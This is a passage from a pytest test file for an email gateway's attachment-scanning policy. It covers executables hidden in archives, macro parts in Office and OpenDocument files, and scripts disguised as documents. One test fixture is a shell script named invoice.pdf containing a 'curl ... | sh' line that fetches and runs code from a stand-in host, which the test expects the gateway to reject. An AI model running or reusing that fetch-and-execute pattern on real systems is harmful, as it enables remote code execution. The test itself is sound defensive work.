        ("x.tbz2", tar_bytes({"evil.exe": pe_bytes()}, "bz2"), "x.tbz2 > evil.exe"),
        ("tool.exe.bz2", compressed_bytes("bz2", pe_bytes()), "tool.exe.bz2 > tool.exe"),
        ("tool.exe.xz", compressed_bytes("xz", pe_bytes()), "tool.exe.xz > tool.exe"),
        ("setup.cab", cab_bytes(["readme.txt", "evil.exe"]), "setup.cab > evil.exe"),
    ],
)
def test_every_archive_format_has_its_members_judged(
    filename: str, data: bytes, where: str
) -> None:
    result = check(message((filename, data, OCTET)))
    assert names(result) == {"ATTACH_BLOCKED_EXT"}
    assert where in result.reason


@pytest.mark.parametrize(
    ("filename", "members", "evidence"),
    [
        ("book.xlsm", {"xl/vbaProject.bin": b"x"}, "xl/vbaProject.bin"),
        ("deck.pptm", {"ppt/vbaProject.bin": b"x"}, "ppt/vbaProject.bin"),
        ("book.xlsx", {"xl/macrosheets/sheet1.xml": b"<xm/>"}, "xl/macrosheets/sheet1.xml"),
    ],
)
def test_ooxml_macro_parts_whatever_the_extension(
    filename: str, members: dict[str, bytes], evidence: str
) -> None:
    base = {"[Content_Types].xml": b"<Types/>", "_rels/.rels": b"<Relationships/>"}
    result = check(message((filename, zip_bytes({**base, **members}), OCTET)))
    assert names(result) == {"ATTACH_MACRO"}
    assert evidence in detail(result, "ATTACH_MACRO")


def test_opendocument_basic_macros() -> None:
    odt = zip_bytes(
        {
            "mimetype": b"application/vnd.oasis.opendocument.text",
            "META-INF/manifest.xml": b"<manifest/>",
            "content.xml": b"<office:document-content/>",
            "Basic/Standard/Module1.xml": b"<script:module/>",
        }
    )
    result = check(message(("letter.odt", odt, OCTET)))
    assert names(result) == {"ATTACH_MACRO"} and result.force is QUARANTINE


def test_big_archives_are_scanned_in_the_policys_own_pool_and_close_releases_it() -> None:
    import os

    policy = AttachmentsPolicy(AttachmentsOptions(scan_workers=1))
    raw = message(("docs.zip", zip_bytes({"a.bin": os.urandom(100_000), "b.exe": b"x"}), OCTET))

    async def run() -> Result:
        try:
            return await policy.check(make_context(raw))
        finally:
            assert policy._executor is not None  # used: the zip is over 64 KiB encoded
            await policy.close()

    assert names(asyncio.run(run())) == {"ATTACH_BLOCKED_EXT"}
    assert policy._executor is None


def test_attachment_modules_import_only_gateway_api_from_the_gateway() -> None:
    """Built-in policies use the plugin API like third-party ones (architecture.md)."""
    import ast
    from pathlib import Path

    import policies

    root = Path(policies.__file__).parent
    for name in ("attachments.py", "_archives.py", "_filetypes.py", "_mime_walk.py"):
        tree = ast.parse((root / name).read_text(encoding="utf-8"))
        for node in ast.walk(tree):
            if isinstance(node, ast.ImportFrom) and node.module:
                modules = [node.module]
            elif isinstance(node, ast.Import):
                modules = [a.name for a in node.names]
            else:
                continue
            for module in modules:
                assert not module.startswith("gateway") or module == "gateway.api", (name, module)
    import policies.attachments as public

    assert public.__all__ == ["AttachmentsOptions", "AttachmentsPolicy"]


def test_a_unix_script_without_extension_is_not_a_disguise() -> None:
    """Found in the ham corpus: an admin mailing a "#!/bin/sh" script named "rotate"."""
    script = b"#!/bin/sh\nsavelog -c 7 /var/log/app.log\n"
    assert names(check(message(("rotate", script, "text/plain")))) == set()


def test_a_script_named_as_a_document_is_a_disguise() -> None:
    script = b"#!/bin/sh\ncurl http://x.test/p | sh\n"
    result = check(message(("invoice.pdf", script, "application/pdf")))
    assert names(result) == {"ATTACH_DISGUISED_EXEC"} and result.force is REJECT
